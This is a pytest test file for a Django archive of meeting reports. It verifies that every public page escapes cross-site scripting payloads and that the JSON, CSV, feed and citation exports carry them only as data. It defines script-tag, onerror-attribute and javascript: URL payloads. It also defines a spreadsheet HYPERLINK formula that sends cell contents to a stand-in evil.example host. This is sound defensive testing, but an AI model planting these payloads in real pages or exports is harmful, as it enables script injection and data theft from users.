"""Whatever an editor types, readers' browsers never run it: every text field a public page
or an export shows holds script payloads, and every page escapes them (HTML), or carries them
as data (JSON, CSV, Atom, citations)."""

import csv
import datetime
import io
import json
import re
from xml.etree import ElementTree

import pytest
from django.contrib.admin.sites import site
from django.contrib.auth.models import User
from django.core.exceptions import ValidationError

from archive.models import (
    Claim,
    Delegation,
    Footnote,
    Issue,
    IssueAlias,
    Meeting,
    Participation,
    Person,
    PersonAlias,
    Publisher,
    Report,
    Status,
    Synonym,
    WithdrawnClaim,
)

pytestmark = pytest.mark.django_db

SCRIPT = "<script>alert(1)</script>"
ATTRIBUTE = '"><img src=x onerror=alert(1)>'
JAVASCRIPT_URL = "javascript:alert(1)"
EVIL = f"{SCRIPT} {ATTRIBUTE} {JAVASCRIPT_URL}"

ESCAPED_SCRIPT = "&lt;script&gt;alert(1)&lt;/script&gt;"
RAW = ("<script>alert(1)", "<img src=x onerror")
JAVASCRIPT_LINK = re.compile(r"""(href|src|action)\s*=\s*["']?\s*javascript:""", re.IGNORECASE)

# One word before each payload says which field it came from, and is what search finds.
CLAIM = f"Quokka declared {EVIL}"
WITHDRAWN = f"Wombat retracted {EVIL}"


@pytest.fixture
def hostile(db) -> dict:
    """A published meeting whose every editable text holds the payloads. (The person's note
    is shown nowhere public yet; it holds them too, for the day it is.)"""
    meeting = Meeting.objects.create(
        title=f"Zanzibar talks {EVIL}",
        start_date=datetime.date(2024, 6, 1),
        place=f"Placename {EVIL}",
        summary=f"Summarised {EVIL}",
        status=Status.PUBLISHED,
    )
    sides = [
        Delegation.objects.create(meeting=meeting, side=n, country=code)
        for n, code in ((1, "CN"), (2, "US"))
    ]
    person = Person.objects.create(
        name=f"Ozymandias {EVIL}", sort_name=f"Ozymandias {EVIL}", note=f"Annotated {EVIL}"
    )
    PersonAlias.objects.create(person=person, name=f"Aliased {EVIL}")
    speaker = Participation.objects.create(
        person=person, delegation=sides[0], title=f"Titled {EVIL}", is_head=True
    )
    Participation.objects.create(
        person=Person.objects.create(name="Plain Official"), delegation=sides[1], is_head=True
    )
    publisher = Publisher.objects.create(
        name=f"Pressroom {EVIL}", url=f"https://example.org/{SCRIPT}{ATTRIBUTE}"
    )
    report = Report.objects.create(
        publisher=publisher,
        meeting=meeting,
        series="Readout",
        number="666",
        title=f"Readout {EVIL}",
        date=datetime.date(2024, 6, 2),
        url=f"https://example.org/report?{ATTRIBUTE}{SCRIPT}",
        original_source=f"Relayed {EVIL}",
        body=f"Preamble {EVIL}\n\n{CLAIM} [1]\n\n{WITHDRAWN}\n\nThe end.",
        status=Status.PUBLISHED,
    )
    Footnote.objects.create(report=report, number=1, text=f"Footnoted {EVIL}")
    issue = Issue.objects.create(name=f"Xylophone {EVIL}", description=f"Described {EVIL}")
    IssueAlias.objects.create(issue=issue, name=f"Issuealias {EVIL}")
    Synonym.objects.create(terms=f"Quokka\n{SCRIPT}\n{ATTRIBUTE}\n{JAVASCRIPT_URL}")
    claim = Claim.objects.create(
        report=report, text=CLAIM, delegation=sides[0], speaker=speaker, kind="warning"
    )
    claim.issues.add(issue)
    gone = Claim.objects.create(report=report, text=WITHDRAWN, delegation=sides[1])
    gone.issues.add(issue)
    gone_id = gone.pk
    gone.delete()  # leaves a tombstone; an editor may then correct its reason
    WithdrawnClaim.objects.filter(claim_id=gone_id).update(reason=f"Reasoned {EVIL}")
    return {
        "meeting": meeting,
        "report": report,
        "claim": Claim.objects.get(pk=claim.pk),
        "person": person,
        "issue": issue,
        "gone": gone_id,
    }


def html_pages(h: dict) -> dict[str, list[str]]:
    """Each public page that shows the hostile records, with the words of the fields it is
    expected to show (so the test cannot pass by showing nothing)."""
    meeting, report, claim = h["meeting"], h["report"], h["claim"]
    return {
        "/": ["Zanzibar"],
        meeting.get_absolute_url(): ["Zanzibar", "Placename", "Summarised", "Ozymandias"],
        f"{meeting.get_absolute_url()}compare/": ["Zanzibar", "Quokka"],
        report.get_absolute_url(): [
            "Readout",
            "Pressroom",
            "Relayed",
            "Preamble",
            "Quokka",
            "Footnoted",
            "Zanzibar",
        ],
        claim.get_absolute_url(): ["Quokka", "Ozymandias", "Titled", "Xylophone", "Zanzibar"],
        f"/claims/{h['gone']}/": ["Wombat", "Reasoned", "Zanzibar", "Readout"],
        "/officials/": ["Ozymandias"],
        h["person"].get_absolute_url(): ["Ozymandias", "Aliased", "Titled", "Quokka"],
        "/issues/": ["Xylophone"],
        h["issue"].get_absolute_url(): ["Xylophone", "Described", "Issuealias", "Quokka"],
        "/claims/": ["Quokka", "Xylophone"],
        f"/claims/?issue={h['issue'].slug}": ["Quokka", "Xylophone"],
        "/meetings/": ["Zanzibar", "Placename"],
        "/search/?q=quokka": ["Quokka"],
        "/search/?q=ozymandias": ["Ozymandias"],
        "/search/?q=xylophone": ["Xylophone"],
        "/search/?q=alert": [],
        "/countries/cn-us/": ["Zanzibar", "Xylophone"],
    }


def assert_escaped(body: str, where: str) -> None:
    for raw in RAW:
        assert raw not in body, f"{where}: unescaped {raw!r}"
    assert not JAVASCRIPT_LINK.search(body), f"{where}: a javascript: link"


def test_every_page_escapes_what_editors_typed(client, hostile):
    for url, words in html_pages(hostile).items():
        response = client.get(url)
        assert response.status_code in (200, 410), url
        assert response["Content-Type"].startswith("text/html"), url
        body = response.content.decode()
        assert_escaped(body, url)
        for word in words:
            assert word in body, f"{url} does not show {word}"
        if words:
            assert ESCAPED_SCRIPT in body, f"{url} shows no payload at all"


def test_the_report_keeps_the_claim_verbatim_in_its_body(client, hostile):
    body = client.get(hostile["report"].get_absolute_url()).content.decode()
    escaped_claim = (
        CLAIM.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace('"', "&quot;")
    )
    assert escaped_claim in body


def test_search_shows_the_synonyms_escaped(client, hostile):
    body = client.get("/search/?q=quokka").content.decode()
    assert_escaped(body, "search")
    assert "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;" in body  # a synonym, as text


def test_json_exports_carry_the_text_as_data(client, hostile):
    for url in ("/claims/?format=json", "/search/?q=quokka&format=json"):
        response = client.get(url)
        assert response["Content-Type"] == "application/json", url
        rows = {row["claim_id"]: row for row in json.loads(response.content)["results"]}
        row = rows[hostile["claim"].pk]
        assert row["text"] == CLAIM
        assert row["speaker"] == hostile["person"].name
        assert row["speaker_title"] == f"Titled {EVIL}"
        assert row["issues"] == [f"Xylophone {EVIL}"]
        assert row["publisher"] == f"Pressroom {EVIL}"
    meetings = json.loads(client.get("/meetings/?format=json").content)["results"]
    assert {"title": hostile["meeting"].title, "place": f"Placename {EVIL}"}.items() <= next(
        m for m in meetings if m["meeting_id"] == hostile["meeting"].pk
    ).items()


def csv_rows(response) -> list[dict]:
    text = b"".join(response.streaming_content).decode("utf-8")
    return list(csv.DictReader(io.StringIO(text.removeprefix("\ufeff"))))


def test_csv_exports_carry_the_text_as_data(client, hostile):
    for url in ("/claims/?format=csv", "/search/?q=quokka&format=csv"):
        response = client.get(url)
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        row = next(r for r in csv_rows(response) if r["claim_id"] == str(hostile["claim"].pk))
        assert row["text"] == CLAIM
        assert row["meeting"] == hostile["meeting"].title
        assert row["report"] == f"Readout {EVIL}"
    row = next(
        r
        for r in csv_rows(client.get("/meetings/?format=csv"))
        if r["meeting_id"] == str(hostile["meeting"].pk)
    )
    assert (row["title"], row["place"]) == (hostile["meeting"].title, f"Placename {EVIL}")


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_csv_cells_that_a_spreadsheet_would_run_start_with_a_quote(client, hostile, start):
    formula = f'{start}HYPERLINK("http://evil.example/x?"&A1,"Click")'
    report = hostile["report"]
    report.body = f"{report.body}\n\n{formula}"
    report.save()
    claim = Claim.objects.create(
        report=report,
        meeting=hostile["meeting"],
        delegation=hostile["claim"].delegation,
        text=formula,
        start=report.body.index(formula),
        end=report.body.index(formula) + len(formula),
        is_public=True,
    )
    rows = csv_rows(client.get("/claims/?format=csv"))
    row = next(r for r in rows if r["claim_id"] == str(claim.pk))
    assert row["text"] == "'" + formula
    # The JSON export keeps the words exactly.
    data = client.get("/claims/?format=json").json()
    assert any(c["text"] == formula for c in data["results"])


ATOM = "{http://www.w3.org/2005/Atom}"


def test_the_feed_is_xml_with_the_text_as_data(client, hostile):
    for url in (
        "/claims/feed/",
        "/claims/feed/?q=quokka",
        f"/claims/feed/?issue={hostile['issue'].slug}",
    ):
        response = client.get(url)
        assert response.status_code == 200, url
        feed = ElementTree.fromstring(response.content)
        entry = next(e for e in feed.iter(f"{ATOM}entry") if "Quokka" in e.findtext(f"{ATOM}title"))
        # Plain text, so a feed reader shows the payload and never renders it as HTML.
        summary = entry.find(f"{ATOM}summary")
        assert summary.get("type") == "text"
        # The claim, then whose account it comes from, both as data.
        assert summary.text.split("\n\n") == [CLAIM, f"{hostile['claim'].provenance}."]
        assert entry.findtext(f"{ATOM}author/{ATOM}name") == hostile["person"].name
        categories = [c.get("term") for c in entry.iter(f"{ATOM}category")]
        assert categories == [f"Xylophone {EVIL}"]


def test_citations_are_downloads_with_the_text_as_data(client, hostile):
    claim, report = hostile["claim"], hostile["report"]
    for base in (f"/claims/{claim.pk}/cite.", f"{report.get_absolute_url()}cite."):
        for fmt in ("bib", "ris", "json"):
            response = client.get(base + fmt)
            assert response.status_code == 200
            assert not response["Content-Type"].startswith("text/html")
            assert response["Content-Disposition"].startswith("attachment")
        cited = json.loads(client.get(base + "json").content)
        assert cited[0]["publisher"] == f"Pressroom {EVIL}"
    cited = json.loads(client.get(f"/claims/{claim.pk}/cite.json").content)
    assert cited[0]["title"] == CLAIM


def test_the_sitemap_is_xml(client, hostile):
    for url in ("/sitemap.xml", "/sitemap-meetings.xml", "/sitemap-officials.xml"):
        response = client.get(url)
        ElementTree.fromstring(response.content)
        assert_escaped(response.content.decode(), url)


@pytest.mark.parametrize(
    ("model", "field"), [(Report, "url"), (Publisher, "url")], ids=["report", "publisher"]
)
def test_the_admin_refuses_a_javascript_url(rf, model, field):
    request = rf.get("/admin/")
    request.user = User(is_staff=True, is_superuser=True)
    form = site._registry[model].get_form(request)
    with pytest.raises(ValidationError):
        form.base_fields[field].clean(JAVASCRIPT_URL)
    with pytest.raises(ValidationError):
        model._meta.get_field(field).run_validators(JAVASCRIPT_URL)


def test_a_tombstone_never_links_to_javascript(client, db):
    tombstone = WithdrawnClaim(
        claim_id=999_999,
        text="Withdrawn words",
        side="Both sides",
        meeting_title="A meeting",
        meeting_url=JAVASCRIPT_URL,
        report_title="A report",
        report_url=JAVASCRIPT_URL,
        reason="Merged away.",
    )
    try:
        tombstone.full_clean()  # as load_archive does with a row of an archive file
    except ValidationError:
        return
    tombstone.save()
    body = client.get("/claims/999999/").content.decode()
    assert not JAVASCRIPT_LINK.search(body)
